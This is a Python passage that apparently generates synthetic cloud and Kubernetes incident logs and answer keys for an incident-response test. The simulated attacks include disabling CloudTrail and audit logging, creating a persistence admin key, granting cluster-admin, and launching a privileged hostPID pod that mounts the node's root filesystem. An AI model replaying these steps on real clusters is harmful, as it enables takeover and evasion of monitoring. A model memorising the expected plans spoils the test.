        name = f"identity-api-7b8c9d6f45-{M.suffix('id' + str(i))}"
        pods.append(M.make_pod(name, "identity", T("10:20:14", "2026-04-28"), [{"name": "identity-api", "image": img}], n, n.prefix + str(70 + i),
                               labels={"app.kubernetes.io/name": "identity-api", "pod-template-hash": "7b8c9d6f45"},
                               owner_ref=owner_ref("ReplicaSet", "identity-api-7b8c9d6f45", "identity"), sa="identity-api",
                               generate_name="identity-api-7b8c9d6f45-"))
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    crbs = M.system_crbs("2025-09-22T15:48:12Z") + [metrics_server_crb("2025-09-22T15:58:40Z")]
    crbs.sort(key=lambda o: o["metadata"]["name"])
    sas = system_serviceaccounts("2025-09-22T15:48:12Z") + [M.serviceaccount("identity-api", "identity", "2025-09-23T09:00:00Z")]
    nodes = [M.node_object(n, "cac1-az" + str(i + 1), C["snap"], "v1.32.1-eks-5d632ec", "ami-0d2e3f4a5b6c7d8e9") for i, n in enumerate(C["nodes"])]
    principals = [f"arn:aws:iam::{S().account}:role/{C['node_role']}", C["sso_arn"], f"arn:aws:iam::{S().account}:role/{C['ci_role']}"]
    ci_entry = access_entry_doc(f"arn:aws:iam::{S().account}:role/{C['ci_role']}", "prod-ci-release", ["identity:deployers"],
                                "2025-11-03T10:12:40.000000+00:00", tags={"created-by": "terraform", "purpose": "release pipeline, created 2025-11-03"})
    return {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "clusterrolebindings.json": k8s_list(crbs),
            "serviceaccounts.json": k8s_list(sas),
            "configmaps-kube-system.json": k8s_list([M.aws_auth(f"arn:aws:iam::{S().account}:role/{C['node_role']}", "2025-09-22T15:55:02Z")]),
            "eks-describe-cluster.json": describe_cluster(C, "1.32", "eks.6", ["0.0.0.0/0"], [], mode="API",
                                                          tags={"env": "production", "team": "identity"}),
            "eks-list-access-entries.json": {"accessEntries": sorted(principals)},
            "eks-describe-access-entry-prod-ci-release.json": ci_entry}


LO_STEPS = {
    "aws-recon": "the stolen SSO session (AWSReservedSSO_AdministratorAccess, m.chen@example.com, key ASIAX1RUDP6ZMCHEN7K4) from 203.0.113.140: GetCallerIdentity, DescribeTrails, GetTrailStatus, ListClusters, DescribeCluster",
    "k8s-list-secrets": "lists every secret (the SSO role's access entry has AmazonEKSClusterAdminPolicy)",
    "k8s-read-secret": "reads identity/oidc-signing-keys",
    "aws-blind-cloudtrail": "PutEventSelectors on prod-identity-trail: read-only events only — from here the trail records no write",
    "aws-stop-cloudtrail": "StopLogging on prod-identity-trail (only in the event history: the trail no longer records writes)",
    "aws-disable-control-plane-logging": "UpdateClusterConfig: api, audit and authenticator logging off; the audit log ends at 21:20:41",
    "aws-open-endpoint": "UpdateClusterConfig: public endpoint open to 0.0.0.0/0 (was 192.0.2.0/25 and 198.51.100.96/27)",
    "aws-persistence-user": "CreateUser svc-metrics-reader, CreateAccessKey AKIAX1RUDP6ZW4MT8QRE, AttachUserPolicy AdministratorAccess",
    "aws-assume-ci-role": "AssumeRole of the pre-existing prod-ci-release (session release-hotfix-2104)",
    "aws-ci-role-used": "the CI role's session describes the cluster, lists its access entries and the ECR repositories",
    "aws-new-key-used": "the new key from 203.0.113.141: GetCallerIdentity, ListBuckets",
    "detect-cloudtrail-disabled": "GuardDuty Stealth:IAMUser/CloudTrailLoggingDisabled",
    "detect-persistence": "GuardDuty Persistence:IAMUser/AnomalousBehavior",
    "lookalike-terraform-ci-role": "benign: Terraform (github-actions-terraform, CI 198.51.100.101) sets prod-ci-release's description: 'Release pipeline role, created by platform-team with Terraform; do not delete'",
    "lookalike-admin-reads": "benign: a colleague's routine reads from the office (192.0.2.17): the cluster, its node groups, the trail and its status",
    "lookalike-ci-release": "benign: the release pipeline assumes prod-ci-release through GitHub OIDC and describes the cluster",
    "lookalike-victim-own-work": "benign: m.chen's own work from the office (192.0.2.23) with the very session (same key) that is stolen later",
    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
}


def lo_consistency(docs):
    problems = []
    audit_evs = []
    for rel, d in docs.items():
        if rel.startswith("k8s-audit/"):
            audit_evs += [json.loads(e["message"]) for e in d["events"]]
    last = max(ev["stageTimestamp"] for ev in audit_evs)
    if last > iso_us(L["audit_off"]):
        problems.append(f"audit: events after logging was turned off ({last})")
    s3 = [r for rel, d in docs.items() if rel.endswith(".json.gz") and rel.startswith("cloudtrail/") for r in d["Records"]]
    if any(r["eventName"] == "StopLogging" for r in s3):
        problems.append("cloudtrail: StopLogging delivered to the trail after it stopped recording writes")
    if docs["snapshot/eks-describe-cluster.json"]["cluster"]["resourcesVpcConfig"]["publicAccessCidrs"] != ["0.0.0.0/0"]:
        problems.append("snapshot: the endpoint should be open as the attacker left it")
    return problems


def build_logging_off(out):
    lo_world()
    C = L
    lo_benign()
    lo_attack()
    lo_guardduty()
    audit_background(C, T("08:00:06.118402"), C["audit_off"], gap=(80, 130))
    cloudtrail_background(C, range(8, 23, 2))
    base = os.path.join(out, "logging-off")
    files = {}
    # The trail delivers everything until the event selectors change, then read-only records until StopLogging
    sel, stop = iso_s(C["selectors_at"]), "2026-04-30T21:19:02Z"
    delivered = lambda r: r["eventTime"] <= sel or (r["eventTime"] <= stop and r["readOnly"])
    write_ct_s3(base, files, ct_records(delivered))
    # ... and the responder pulls the event history of the evening, in the cluster's region and in us-east-1 (IAM)
    evening = lambda r: r["eventTime"] >= "2026-04-30T21:00:00Z" and r.get("eventCategory") == "Management"
    def username(r):
        ui = r["userIdentity"]
        return ui.get("userName") or ui.get("arn", "").rsplit("/", 1)[-1]
    write_ct_lookup(base, files, ct_records(lambda r: evening(r) and r["awsRegion"] == S().region),
                    f"cloudtrail/lookup-events-{S().region}-evening.json", username)
    write_ct_lookup(base, files, ct_records(lambda r: evening(r) and r["awsRegion"] == "us-east-1"),
                    "cloudtrail/lookup-events-us-east-1-evening.json", username)
    write_audit_get_log_events(base, files, audit_events(), ["kube-apiserver-audit-4e6a8c0b2d1f47a3c5e7b9d1f3a5c7e9",
                                                             "kube-apiserver-audit-b1d3f5a7c9e244f6a8c0e2b4d6f8a1c3"])
    write_guardduty_eventbridge(base, files)
    write_snapshot(base, files, lo_snapshot())
    head = {
        "scenario": "logging-off",
        "summary": (f"A stolen AWS IAM Identity Center session ({C['sso']}, {C['victim']}) is used from {C['attacker_ip']} to read the "
                    f"cluster's secrets, blind and stop CloudTrail trail {C['trail']}, turn off {S().cluster}'s control-plane logging, "
                    f"open its endpoint to 0.0.0.0/0, create IAM user {C['new_user']} with an administrator key, and assume the "
                    f"pre-existing release role {C['ci_role']} ({S().account}, {S().region})."),
        "severity": "Critical",
        "severity_criteria": [
            {"level": "Critical", "criterion": "unauthorised access to cluster-admin credentials",
             "evidence": "a stolen administrator session with AmazonEKSClusterAdminPolicy on the cluster lists every secret"},
            {"level": "High", "criterion": "exposure of sensitive configuration", "evidence": "identity/oidc-signing-keys read"},
        ],
        "entities": {
            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
            "sso_role": C["sso_arn"], "sso_session": C["victim"], "stolen_session_key": C["stolen_key"],
            "k8s_username": f"arn:aws:sts::{S().account}:assumed-role/{C['sso']}/{C['victim']}",
            "attacker_ips": [C["attacker_ip"], C["persist_ip"]], "trail": C["trail_arn"],
            "persistence_user": f"arn:aws:iam::{S().account}:user/{C['new_user']}", "persistence_key": C["new_key"],
            "assumed_preexisting_role": f"arn:aws:iam::{S().account}:role/{C['ci_role']}", "assumed_role_session": C["hijack_session"],
            "endpoint_before": C["orig_cidrs"], "endpoint_after": ["0.0.0.0/0"],
            "audit_logging_off_at": "2026-04-30T21:20:15Z", "last_audit_event": iso_us(C["audit_off"]),
        },
        "joins": [
            "the stolen session key ASIAX1RUDP6ZMCHEN7K4 -> CloudTrail accessKeyId and audit user.extra.accessKeyId (the victim used the same key from the office at 13:05: separate by source address)",
            "SSO role ARN with its path (aws-reserved/sso.amazonaws.com/ca-central-1/) in sessionIssuer and the access entry, without it in the audit canonicalArn and the Kubernetes username",
            "AssumeRole by the SSO session -> prod-ci-release session release-hotfix-2104 -> its credentials.accessKeyId -> its calls (a role chain)",
            "CreateAccessKey responseElements.accessKey.accessKeyId -> the calls signed with it",
            "records after 21:18:44 only in the event history (lookup-events), IAM ones only in us-east-1's",
        ],
        "benign_lookalikes": [
            "Terraform's UpdateRole of prod-ci-release at 08:12: its description says 'created by platform-team' — the role predates the incident and must survive eradication",
            "a colleague's DescribeTrails / GetTrailStatus / DescribeCluster from the office (the same calls the attacker starts with)",
            "the release pipeline's own use of prod-ci-release through GitHub OIDC",
            "the victim's own use of the same session and key from the office at 13:05",
        ],
        "steps": LO_STEPS,
    }
    role = C["ci_role"]
    expect = {
        "severity": "Critical",
        "criteria": ["critical.cluster_admin", "high.sensitive_config_exposure"],
        "criteria_not": ["critical.multiple_nodes"],
        "gaps": [C["trail"], "2026-04-30T21:20:15"],
        "affected": [
            {"kind": "iam_role", "name": C["sso"]},
            {"kind": "iam_user", "name": C["new_user"]},
            {"kind": "access_key", "name": C["new_key"]},
            {"kind": "iam_role", "name": role},
            {"kind": "cluster", "name": S().cluster},
            {"kind": "secret", "name": "oidc-signing-keys", "namespace": "identity"},
            {"kind": "ip", "name": C["attacker_ip"]}, {"kind": "ip", "name": C["persist_ip"]},
        ],
        "not_affected": [
            {"kind": "ip", "name": C["victim_ip"]}, {"kind": "ip", "name": C["colleague_ip"]}, {"kind": "ip", "name": C["ci_ip"]},
            {"kind": "iam_role", "name": C["tf_role"]},
        ],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain", "argv": ["aws", "iam", "update-access-key", "--access-key-id", C["new_key"], "--status", "Inactive"],
             "flags": {"--user-name": C["new_user"]}, "blocked": False},
            {"phase": "contain", "argv": ["aws", "iam", "put-role-policy", "--role-name", role], "blocked": False,
             "why": "revoke the hijacked session of the pre-existing CI role (not delete the role)"},
            {"phase": "contain", "argv": [C["sso"]],
             "why": "the stolen Identity Center session must be revoked (an IAM Identity Center action, or a blocked step saying so)"},
            {"phase": "contain", "argv": ["aws", "eks", "update-cluster-config", "--name", S().cluster, "--resources-vpc-config"], "blocked": False},
            {"phase": "contain|eradicate", "argv": ["aws", "cloudtrail", "start-logging", "--name", C["trail"] + "*"], "blocked": False,
             "why": "logging turned off by the attacker is turned back on"},
            {"phase": "contain|eradicate", "argv": ["aws", "cloudtrail", "put-event-selectors", "--trail-name", C["trail"] + "*"], "blocked": False},
            {"phase": "contain|eradicate", "argv": ["aws", "eks", "update-cluster-config", "--name", S().cluster, "--logging"], "blocked": False},
            {"phase": "eradicate", "argv": ["aws", "iam", "delete-access-key", "--access-key-id", C["new_key"]]},
            {"phase": "eradicate", "argv": ["aws", "iam", "delete-user", "--user-name", C["new_user"]]},
        ],
        "plan_not": [
            {"phase": "eradicate", "argv": ["iam", "delete-role", "--role-name", role],
             "why": "prod-ci-release existed before the incident; its description only says it was created by the platform team"},
            {"phase": "eradicate", "argv": ["iam", "delete-role", "--role-name", C["sso"]]},
            {"phase": "recover", "argv": ["eks", "update-cluster-config", "*0.0.0.0/0*"], "why": "the attacker opened it"},
            {"phase": "recover", "argv": ["cloudtrail", "stop-logging"]},
            {"phase": "recover", "argv": ["eks", "update-cluster-config", "--logging", "*false*"]},
        ],
        "plan_order": [
            [{"phase": "eradicate", "argv": ["iam", "delete-access-key", "--access-key-id", C["new_key"]]},
             {"phase": "eradicate", "argv": ["iam", "delete-user", "--user-name", C["new_user"]]}],
            [{"phase": "eradicate", "argv": ["iam", "detach-user-policy", "--user-name", C["new_user"]]},
             {"phase": "eradicate", "argv": ["iam", "delete-user", "--user-name", C["new_user"]]}],
        ],
    }
    counts = finish_truth(out, "logging-off", head, files, expect,
                          ("lookalike-terraform-ci-role", "lookalike-admin-reads", "lookalike-ci-release", "lookalike-victim-own-work"))
    return base, files, counts, check(base, os.path.join(out, "logging-off.truth.json"), lo_consistency)


# =============================================================================================
# Scenario 6: shared-ground (prod-finance, eu-north-1, 2026-05-12)
# =============================================================================================
SG = {}
SG_SSO_PATH = "aws-reserved/sso.amazonaws.com/eu-north-1/"
SG_MAC_KUBECTL = "kubectl/v1.32.3 (darwin/arm64) kubernetes/32cc146"
SG_ATK_KUBECTL = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
SG_ATK_PY = "OpenAPI-Generator/31.0.0/python"


def sg_world():
    new_scenario("shared-ground", 20260512, "350918273645", "eu-north-1", "prod-finance", "2026-05-12",
                 ["10.116.100.19", "10.116.101.205"], "1b3d5f7a9c0e2b4d6f8a1c3e5b7d9f0a")
    SG.clear()
    C = SG
    cluster_common(C, "prod-finance", "v1.32.2-eks-bc803b4", "kubelet/v1.32.1-eks-5d632ec (linux/amd64) kubernetes/5d632ec")
    C["kube_proxy"] = "v1.32.0-minimal-eksbuild.2"
    C["node_role"], C["node_role_id"] = "prod-finance-node-role", "AROAVQ7LEDGRNODEFIN6"
    C["ng"] = "prod-finance-general"
    C["nodes"] = [Node("ip-10-116-18-73.eu-north-1.compute.internal", "10.116.18.73", "i-0a7b8c9d0e1f2a3b4", "eu-north-1a",
                       "ASIAVQ7LEDGRFINNDA01", "2026-05-08T04:12:31Z", C["ng"]),
                  Node("ip-10-116-44-150.eu-north-1.compute.internal", "10.116.44.150", "i-0b8c9d0e1f2a3b4c5", "eu-north-1b",
                       "ASIAVQ7LEDGRFINNDB02", "2026-05-08T04:12:36Z", C["ng"])]
    C["nat"] = "198.51.100.175"
    C["metrics_server"] = ("metrics-server-5b9d7c6f8-h4k2w", C["nodes"][0], "10.116.18.91")
    C["coredns_rs"] = "6c8d9b7f45"
    C["vpc"], C["cluster_sg"] = "vpc-0f1b3d5e7a9c24680", "sg-0a2c4e6f8b0d35791"
    C["subnets"] = {"eu-north-1a": "subnet-0b3d5f7a9c1e46802", "eu-north-1b": "subnet-0c4e6a8b0d2f57913"}
    C["endpoint"] = "https://B7D9F1A3C5E2B4D6F8A0C1E3B5D7F9A2.gr7.eu-north-1.eks.amazonaws.com"
    C["oidc"] = "B7D9F1A3C5E2B4D6F8A0C1E3B5D7F9A2"
    C["created"] = "2025-07-14T09:21:37.418000+00:00"
    # IAM Identity Center: two permission sets, five engineers, one office
    C["admin_sso"], C["admin_sso_id"] = "AWSReservedSSO_PlatformAdmin_5e2a8c4f1b7d3e90", "AROAVQ7LEDGRPLATADM1"
    C["dev_sso"], C["dev_sso_id"] = "AWSReservedSSO_Developer_9c1f3b7e5a2d4f68", "AROAVQ7LEDGRDEVELOP2"
    C["people"] = {   # who: (session name, permission set, own session key)
        "alice": ("alice.novak@example.com", "admin", "ASIAVQ7LEDGRALICE4M2"),
        "bob": ("bob.lindqvist@example.com", "admin", "ASIAVQ7LEDGRBOB7Q3XW"),
        "chen": ("chen.wei@example.com", "dev", "ASIAVQ7LEDGRCHEN2R6T"),
        "dana": ("dana.kovacs@example.com", "dev", "ASIAVQ7LEDGRDANA5H8P"),
        "farid": ("farid.haddad@example.com", "dev", "ASIAVQ7LEDGRFARID3N9"),
    }
    C["stolen_key"] = "ASIAVQ7LEDGRSTOLEN5K"
    C["office_ip"], C["attacker_ip"] = "192.0.2.60", "203.0.113.88"
    C["ns"], C["deploy"], C["secret"] = "ledger", "ledger-api", "ledger-db"
    C["rs_old"], C["rs_new"] = "7d6c5b9f84", "5f8b7c9d46"
    ecr = f"{S().account}.dkr.ecr.{S().region}.amazonaws.com"
    C["image_old"], C["image_new"] = f"{ecr}/ledger-api:2026.05.07-2", f"{ecr}/ledger-api:2026.05.12-1"
    A, B_ = C["nodes"]
    C["api_pods"] = [(f"ledger-api-{C['rs_new']}-{M.suffix('la' + str(i))}", n, n.prefix + str(112 + 75 * i)) for i, n in enumerate((A, B_))]
    C["shared_pod"] = C["api_pods"][1][0]   # the replica on node B: both admins and the attacker exec into it
    C["sa"], C["crb"] = "ledger-ops", "ledger-ops-admin"
    C["pod"], C["pod_node"], C["pod_ip"] = "ledger-ops-debug", B_, "10.116.44.203"
    C["pod_image"] = "docker.io/library/alpine:3.20"
    C["token_jti"] = stable_uuid("jti-ledger-ops")
    C["snap"] = T("12:10:00")


def sg_role(who):
    C = SG
    return (C["admin_sso"], C["admin_sso_id"]) if C["people"][who][1] == "admin" else (C["dev_sso"], C["dev_sso_id"])


def sg_role_arn(role):
    return f"arn:aws:iam::{S().account}:role/{SG_SSO_PATH}{role}"


def sg_ident(who, key, created):
    role, role_id = sg_role(who)
    return M.id_role(role, role_id, SG["people"][who][0], key, created, path=SG_SSO_PATH)


def sg_k8s(who, key, src, ua, label="benign", step=None):
    """audit() keyword arguments for one engineer's session (the access entry's username is the STS ARN)."""
    role, role_id = sg_role(who)
    session = SG["people"][who][0]
    uname = f"arn:aws:sts::{S().account}:assumed-role/{role}/{session}"
    return dict(user=u_role(uname, [], S().account, role, role_id, session, key), src=[src], ua=ua,
                reason=policy_reason(f"arn:aws:iam::{S().account}:role/{role}", uname), label=label, step=step)


def sg_kubeconfig(who, t, created, step):
    """update-kubeconfig from the office with the engineer's own session."""
    C = SG
    ct(t, sg_ident(who, C["people"][who][2], created), "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster},
       ip=C["office_ip"], ua=cli_ua("eks.update-kubeconfig", "2.22.4", "3.12.6", "Darwin/24.3.0", "arm64"), step=step)


def sg_sa_user():
    C = SG
    u = u_sa(C["ns"], C["sa"])
    u["extra"] = {"authentication.kubernetes.io/credential-id": [f"JTI={C['token_jti']}"]}
    return u


def sg_exec(recv, closed, pod, container, command, verb, who, label, step, tty=True):
    """One exec: logged when the stream opens and again when it closes, under one auditID. `who`: audit() keyword
    arguments of the caller (user, src, ua, reason)."""
    K = {k: v for k, v in who.items() if k not in ("label", "step")}
    aid = uid()
    cmd = "&".join("command=" + urllib.parse.quote(c, safe="") for c in command)
    uri = f"/api/v1/namespaces/{SG['ns']}/pods/{pod}/exec?{cmd}&container={container}&stdin=true&stdout=true" + ("&tty=true" if tty else "")
    ref = oref("pods", SG["ns"], pod, sub="exec")
    audit(M.ms(recv, 25, 60), verb=verb, uri=uri, objref=ref, code=101, stage="ResponseStarted", audit_id=aid, received=recv,
          label=label, step=step, **K)
    audit(closed, verb=verb, uri=uri, objref=ref, code=101, stage="ResponseComplete", audit_id=aid, received=recv,
          label=label, step=step, **K)


def sg_shell_alert(t, extra_ns, pod, container, image, node, label, step, shell="sh", exe="/bin/sh"):
    repo, tag = image.rsplit(":", 1)
    cid = M.container_id(SG["ns"], pod, container)[:12]
    falco(t, extra_ns, "Terminal shell in container", "Notice", node.name,
          ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
          "A shell was spawned in a container with an attached terminal",
          fields=dict(M.container_fields(pod, SG["ns"], cid, repo, tag, container),
                      **M.proc_fields("execve", "root", 0, shell, exe, "runc", shell, 34816),
                      **{"evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER"}),
          text_fields=M.proc_text("execve", "root", 0, shell, exe, "runc", shell, 34816)
                      + [("exe_flags", "EXE_WRITABLE|EXE_LOWER_LAYER")] + M.container_text(pod, SG["ns"], cid, repo, tag, container),
          label=label, step=step)


def sg_benign():
    C = SG
    ns, dep, sec = C["ns"], C["deploy"], C["secret"]
    A, B_ = C["nodes"]
    shared = C["shared_pod"]
    sec_uri = f"/api/v1/namespaces/{ns}/secrets/{sec}"
    # 07:38 farid rolls ledger-api out to a new image from the account's ECR (by hand: kubectl set image)
    sg_kubeconfig("farid", T("07:38:05"), T("07:36:52"), "lookalike-farid-rollout")
    K = sg_k8s("farid", C["people"]["farid"][2], C["office_ip"], SG_MAC_KUBECTL, step="lookalike-farid-rollout")
    audit(T("07:39:12.408211"), verb="get", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{dep}",
          objref=oref("deployments", ns, dep, "apps"), level="Request", **K)
    t = T("07:39:40.116042")
    audit(t, verb="patch", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{dep}?fieldManager=kubectl-set",
          objref=oref("deployments", ns, dep, "apps", uid_=stable_uuid(f"Deployment/{ns}/{dep}")), level="RequestResponse",
          req={"spec": {"template": {"spec": {"containers": [{"image": C["image_new"], "name": dep}]}}}},
          resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": dep, "namespace": ns,
                                                                           "uid": stable_uuid(f"Deployment/{ns}/{dep}"), "generation": 58}},
          **K)
    # the deployment-controller and replicaset-controller do the rest
    rs = f"{dep}-{C['rs_new']}"
    t = later(t, 0, 40, 90)
    audit(t, u_sa("kube-system", "deployment-controller"), "create", f"/apis/apps/v1/namespaces/{ns}/replicasets",
          oref("replicasets", ns, rs, "apps"), code=201, level="RequestResponse", ua=kcm_ua(C["server"], "deployment-controller"),
          req={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns,
                                                                          "ownerReferences": [owner_ref("Deployment", dep, ns)]}},
          resp={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns,
                                                                           "uid": stable_uuid(f"ReplicaSet/{ns}/{rs}")}},
          reason=controller_reason("deployment-controller"), step="rollout-controllers")
    for name, n, _ in C["api_pods"]:
        t = later(t, S().rng.randint(2, 5))
        controller_pod(C, t, ns, name, owner_ref("ReplicaSet", rs, ns), n, sg_api_containers(C["image_new"]), "ledger-api",
                       "replicaset-controller", "benign", "rollout-controllers",
                       labels={"app.kubernetes.io/name": dep, "pod-template-hash": C["rs_new"]})
    audit(T("07:44:10.552107"), verb="get", uri=sec_uri, objref=oref("secrets", ns, sec), **dict(K, step="lookalike-secret-reads"))
    # 08:52 chen reads the database secret to debug a migration
    sg_kubeconfig("chen", T("08:52:00"), T("08:49:31"), "lookalike-secret-reads")
    K = sg_k8s("chen", C["people"]["chen"][2], C["office_ip"], SG_MAC_KUBECTL, step="lookalike-secret-reads")
    audit(T("08:53:12.330518"), verb="get", uri=sec_uri, objref=oref("secrets", ns, sec), **K)
    # 09:12 alice and 09:31 bob exec into the same ledger-api replica (kubectl 1.32: WebSocket, verb get); Falco sees the shells
    for who, t0, closed, created, nsx in (("alice", T("09:12:04.218330"), T("09:19:47.602114"), T("09:09:12"), 211),
                                          ("bob", T("09:31:22.904417"), T("09:34:10.117203"), T("09:28:40"), 482)):
        sg_kubeconfig(who, t0 - timedelta(seconds=94), created, "lookalike-admin-exec")
        K = sg_k8s(who, C["people"][who][2], C["office_ip"], SG_MAC_KUBECTL, step="lookalike-admin-exec")
        audit(later(t0, -40), verb="list", uri=f"/api/v1/namespaces/{ns}/pods?limit=500", objref=oref("pods", ns), level="Request", **K)
        sg_exec(t0, closed, shared, dep, ["sh"], "get", K, "benign", "lookalike-admin-exec")
        sg_shell_alert(later(t0, 0, 300, 700), nsx, shared, dep, C["image_new"], B_, "benign", "lookalike-admin-exec")
    # 09:36 bob also reads the database secret
    K = sg_k8s("bob", C["people"]["bob"][2], C["office_ip"], SG_MAC_KUBECTL, step="lookalike-secret-reads")
    audit(T("09:36:40.771920"), verb="get", uri=sec_uri, objref=oref("secrets", ns, sec), **K)
    # 09:57 dana's own work, with her own session key, from the office: the same username the attacker will use
    sg_kubeconfig("dana", T("09:57:30"), T("09:55:02"), "lookalike-dana-own-work")
    K = sg_k8s("dana", C["people"]["dana"][2], C["office_ip"], SG_MAC_KUBECTL, step="lookalike-dana-own-work")
    audit(T("09:58:14.090815"), verb="list", uri=f"/api/v1/namespaces/{ns}/pods?limit=500", objref=oref("pods", ns), level="Request", **K)
    audit(T("09:58:40.662301"), verb="get", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{dep}",
          objref=oref("deployments", ns, dep, "apps"), level="Request", **K)
    audit(T("10:03:05.218744"), verb="list", uri=f"/apis/apps/v1/namespaces/{ns}/deployments?limit=500",
          objref=oref("deployments", ns, group="apps"), level="Request", **K)


def sg_api_containers(image):
    return [{"name": "ledger-api", "image": image, "ports": [{"containerPort": 8080, "protocol": "TCP"}],
             "resources": {"requests": {"cpu": "250m", "memory": "512Mi"}}}]


def sg_debug_containers():
    C = SG
    return [{"name": "debug", "image": C["pod_image"], "command": ["/bin/sh", "-c", "sleep infinity"],
             "securityContext": {"privileged": True}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}]


def sg_attack():
    C = SG
    ns, sec, atk = C["ns"], C["secret"], C["attacker_ip"]
    A, B_ = C["nodes"]
    # dana's session, stolen: another session key, from 203.0.113.88, with Linux tools
    ident = sg_ident("dana", C["stolen_key"], T("11:01:48"))
    ua = cli_ua("sts.get-caller-identity", "2.17.12", "3.11.9", "Linux/6.8.0-45-generic", "x86_64.ubuntu.24")
    ct(T("11:02:14"), ident, "sts.amazonaws.com", "GetCallerIdentity", params=None, ip=atk, ua=ua, label="attack", step="aws-recon")
    ct(T("11:02:41"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=atk,
       ua=ua.replace("sts.get-caller-identity", "eks.update-kubeconfig"), label="attack", step="aws-recon")
    K = sg_k8s("dana", C["stolen_key"], atk, SG_ATK_KUBECTL, label="attack")
    K.pop("step")
    audit(T("11:03:30.402915"), verb="list", uri=f"/api/v1/namespaces/{ns}/secrets?limit=500", objref=oref("secrets", ns),
          step="k8s-list-secrets", **K)
    audit(T("11:03:52.117308"), verb="get", uri=f"/api/v1/namespaces/{ns}/secrets/{sec}", objref=oref("secrets", ns, sec),
          step="k8s-read-secret", **K)
    # a shell in the production replica the admins use (kubectl 1.29: SPDY, verb create)
    t = T("11:04:20.660172")
    sg_exec(t, T("11:06:31.204418"), C["shared_pod"], C["deploy"], ["sh"], "create", K, "attack", "k8s-exec-app-pod")
    sg_shell_alert(later(t, 0, 300, 700), 617, C["shared_pod"], C["deploy"], C["image_new"], B_, "attack", "runtime-shell-app-pod")
    # a service account of its own, cluster-admin for it, a one-year token
    t = T("11:07:02.318240")
    sa = {"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": C["sa"], "namespace": ns, "creationTimestamp": None}}
    audit(t, verb="create", uri=f"/api/v1/namespaces/{ns}/serviceaccounts?fieldManager=kubectl-create&fieldValidation=Strict",
          objref=oref("serviceaccounts", ns, C["sa"]), code=201, level="RequestResponse", req=sa,
          resp={"kind": "ServiceAccount", "apiVersion": "v1",
                "metadata": {"name": C["sa"], "namespace": ns, "uid": stable_uuid(f"sa/{ns}/{C['sa']}"), "resourceVersion": "61207734",
                             "creationTimestamp": iso_s(t)}},
          step="k8s-create-serviceaccount", **K)
    t = T("11:07:25.840117")
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": C["crb"], "creationTimestamp": None},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"kind": "ServiceAccount", "name": C["sa"], "namespace": ns}]}
    resp = json.loads(json.dumps(crb))
    resp["metadata"] = {"name": C["crb"], "uid": stable_uuid("crb/" + C["crb"]), "resourceVersion": "61207790", "creationTimestamp": iso_s(t)}
    audit(t, verb="create", uri="/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
          objref=oref("clusterrolebindings", None, C["crb"], "rbac.authorization.k8s.io"), code=201, level="RequestResponse",
          req=crb, resp=resp, step="k8s-create-clusterrolebinding", **K)
    audit(T("11:07:48.226501"), verb="create", uri=f"/api/v1/namespaces/{ns}/serviceaccounts/{C['sa']}/token",
          objref=oref("serviceaccounts", ns, C["sa"], sub="token"), code=201, level="Request",
          req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
               "spec": {"audiences": None, "expirationSeconds": 31536000, "boundObjectRef": None},
               "status": {"token": "", "expirationTimestamp": None}},
          annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={C['token_jti']}"},
          step="k8s-create-token", **K)
    # as the new service account, with the Python client: a privileged hostPID pod with the host's / mounted
    S_ = dict(user=sg_sa_user(), src=[atk], ua=SG_ATK_PY, reason=crb_reason(C["crb"], "cluster-admin", "ServiceAccount", f"{C['sa']}/{ns}"),
              label="attack")
    pod, node = C["pod"], C["pod_node"]
    spec = {"serviceAccountName": C["sa"], "hostPID": True, "containers": sg_debug_containers(),
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}], "tolerations": [{"operator": "Exists"}]}
    body = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": pod, "namespace": ns, "labels": {"app": C["sa"]}}, "spec": spec}
    t = T("11:09:55.507314")
    pod_uid = stable_uuid(f"pod/{ns}/{pod}")
    created = audit(t, verb="create", uri=f"/api/v1/namespaces/{ns}/pods", objref=oref("pods", ns, pod), code=201, level="RequestResponse",
                    req=body, resp=dict(body, metadata=dict(body["metadata"], uid=pod_uid, creationTimestamp=iso_s(t)),
                                        status={"phase": "Pending", "qosClass": "BestEffort"}),
                    step="k8s-create-privileged-pod", **S_)
    tb = later(parse_t(created["stageTimestamp"]), 0, 6, 30)
    audit(tb, u_plain("system:kube-scheduler", ["system:authenticated"]), "create", f"/api/v1/namespaces/{ns}/pods/{pod}/binding",
          oref("pods", ns, pod, sub="binding"), code=201, level="RequestResponse", ua=sched_ua(C["server"]),
          req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": pod, "namespace": ns, "uid": pod_uid},
               "target": {"kind": "Node", "name": node.name}},
          resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success", "code": 201},
          reason=crb_reason("system:kube-scheduler", "system:kube-scheduler", "User", "system:kube-scheduler"),
          label="attack", step="k8s-pod-scheduled")
    tk = later(t, 2)
